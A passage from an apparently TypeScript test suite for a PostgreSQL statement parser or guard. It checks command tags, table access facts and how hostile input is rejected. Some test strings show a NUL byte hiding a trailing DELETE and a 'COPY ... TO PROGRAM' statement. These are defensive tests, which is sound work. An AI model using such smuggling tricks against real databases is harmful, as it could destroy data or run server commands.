      'DROP INDEX',
      'DROP FUNCTION',
      'DROP VIEW',
      'DROP SCHEMA',
      'DROP EXTENSION',
    ]);
    assert.deepEqual(tables(facts('DROP FUNCTION f(int)')), []);
  });

  test('ALTER ... RENAME takes the tag of the altered relation kind', () => {
    assert.deepEqual(
      commands('ALTER TABLE t RENAME COLUMN a TO b; ALTER VIEW v RENAME TO w; ALTER INDEX i RENAME TO j; ALTER FUNCTION f() OWNER TO r'),
      ['ALTER TABLE', 'ALTER VIEW', 'ALTER INDEX', 'ALTER FUNCTION'],
    );
  });

  test('CREATE SCHEMA with elements: unqualified targets land in that schema', () => {
    const f = facts('CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM u');
    assert.equal(f.command, 'CREATE SCHEMA');
    assert.deepEqual(tables(f), ['s.t:write', 's.v:write', 'u:read']);
  });

  test('many utility commands', () => {
    assert.deepEqual(
      commands(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'; CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'; " +
          'CREATE EXTENSION pgcrypto; CREATE VIEW v AS SELECT 1; CREATE SEQUENCE q; VACUUM t; ANALYZE t; ' +
          "CHECKPOINT; LOAD 'x'; LISTEN ch; NOTIFY ch, 'x'; UNLISTEN *; DISCARD ALL; DISCARD PLANS; " +
          "REFRESH MATERIALIZED VIEW mv; COMMENT ON TABLE t IS 'x'; CREATE PUBLICATION pub FOR TABLE t; " +
          'REINDEX TABLE t; CLUSTER t; CREATE TYPE ty AS ENUM (\'a\'); CREATE DOMAIN d AS int; ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r',
      ),
      [
        'CREATE FUNCTION',
        'CREATE PROCEDURE',
        'CREATE EXTENSION',
        'CREATE VIEW',
        'CREATE SEQUENCE',
        'VACUUM',
        'ANALYZE',
        'CHECKPOINT',
        'LOAD',
        'LISTEN',
        'NOTIFY',
        'UNLISTEN',
        'DISCARD ALL',
        'DISCARD PLANS',
        'REFRESH MATERIALIZED VIEW',
        'COMMENT',
        'CREATE PUBLICATION',
        'REINDEX',
        'CLUSTER',
        'CREATE TYPE',
        'CREATE DOMAIN',
        'ALTER DEFAULT PRIVILEGES',
      ],
    );
  });

  test('maintenance statements write their tables', () => {
    assert.deepEqual(tables(facts('VACUUM (ANALYZE) t, s.u (a)')), ['t:write', 's.u:write']);
    assert.deepEqual(tables(facts('REFRESH MATERIALIZED VIEW CONCURRENTLY mv')), ['mv:write']);
    assert.deepEqual(tables(facts("COMMENT ON COLUMN s.t.a IS 'x'")), ['s.t:write']);
  });
});

describe('errors and hostile input', () => {
  test('a syntax error carries the parser message and a 0-based position', () => {
    assert.deepEqual(parseStatements('SELECT * FRM t'), {
      ok: false,
      code: 'RG_PARSE_ERROR',
      message: 'syntax error at or near "FRM"',
      cursorPosition: 9,
    });
    const first = parseStatements('SELEC 1');
    assert.equal(first.ok, false);
    if (!first.ok) assert.equal(first.cursorPosition, 0);
  });

  test('the position counts characters, not bytes, across statements', () => {
    const parsed = parseStatements("SELECT 'ééé'; SELECT * FRM t");
    assert.equal(parsed.ok, false);
    if (!parsed.ok) {
      assert.equal(parsed.code, 'RG_PARSE_ERROR');
      assert.equal(parsed.cursorPosition, "SELECT 'ééé'; SELECT * ".length);
    }
  });

  test('the position counts code points as PostgreSQL does (not UTF-16 units)', () => {
    const parsed = parseStatements("SELECT '🎉'; SELECT * FRM t");
    assert.equal(parsed.ok, false);
    if (!parsed.ok) assert.equal(parsed.cursorPosition, [..."SELECT '🎉'; SELECT * "].length);
  });

  test('one bad statement fails the whole text (none of it is forwarded)', () => {
    const parsed = parseStatements('SELECT 1; DELET FROM t; SELECT 2');
    assert.equal(parsed.ok, false);
  });

  test('unterminated string, comment and dollar quote', () => {
    for (const sql of ["SELECT 'abc", 'SELECT 1 /* never closed', 'SELECT $$ open']) {
      const parsed = parseStatements(sql);
      assert.equal(parsed.ok, false, sql);
      if (!parsed.ok) assert.equal(parsed.code, 'RG_PARSE_ERROR');
    }
  });

  test('a NUL byte is refused, not truncated (it would hide the DELETE)', () => {
    const parsed = parseStatements('SELECT 1;\0 DELETE FROM t');
    assert.deepEqual(parsed, {
      ok: false,
      code: 'RG_NUL_IN_TEXT',
      message: 'SQL text contains a NUL byte',
      cursorPosition: 9,
    });
  });

  test('text that is not well-formed UTF-16 (lone surrogate) is refused', () => {
    const parsed = parseStatements("SELECT 'é\uD800'");
    assert.equal(parsed.ok, false);
    if (!parsed.ok) {
      assert.equal(parsed.code, 'RG_INVALID_UTF8');
      assert.equal(parsed.cursorPosition, 9);
    }
  });

  test('very deep nesting fails closed without throwing', () => {
    const deep = parseStatements('SELECT ' + '('.repeat(50_000) + '1' + ')'.repeat(50_000));
    assert.equal(deep.ok, false);
    const long = parseStatements('SELECT 1' + ' + 1'.repeat(20_000));
    assert.equal(long.ok, false);
    assert.ok(parseStatements('SELECT 1' + ' + 1'.repeat(1_000)).ok);
    assert.ok(parseStatements('SELECT 1').ok); // the parser still works afterwards
  });

  test('random and truncated input never throws', () => {
    const fragments = [
      'SELECT', ' * ', 'FROM', ' t', ';', "'", '"', '$$', '$a$', '/*', '*/', '--', '\n', '(', ')', 'E\'\\', 'U&"\\',
      'WITH x AS', 'DELETE', 'é', '🎉', '\u00a0', 'INTO', 'COPY', 'PROGRAM', '\\', ',', '1', 'ARRAY[',
    ];
    let seed = 42;
    const next = (): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed;
    };
    for (let i = 0; i < 2000; i++) {
      let sql = '';
      const n = next() % 12;
      for (let j = 0; j < n; j++) sql += fragments[next() % fragments.length];
      const parsed = parseStatements(sql);
      assert.equal(typeof parsed.ok, 'boolean');
      if (parsed.ok) for (const s of parsed.statements) assert.ok(sql.includes(s.facts.sql), JSON.stringify(sql));
    }
    const real = "WITH d AS (DELETE FROM t RETURNING *) SELECT 'é', * FROM d; COPY t TO PROGRAM 'x'";
    for (let cut = 0; cut <= real.length; cut++) assert.doesNotThrow(() => parseStatements(real.slice(0, cut)));
  });
});
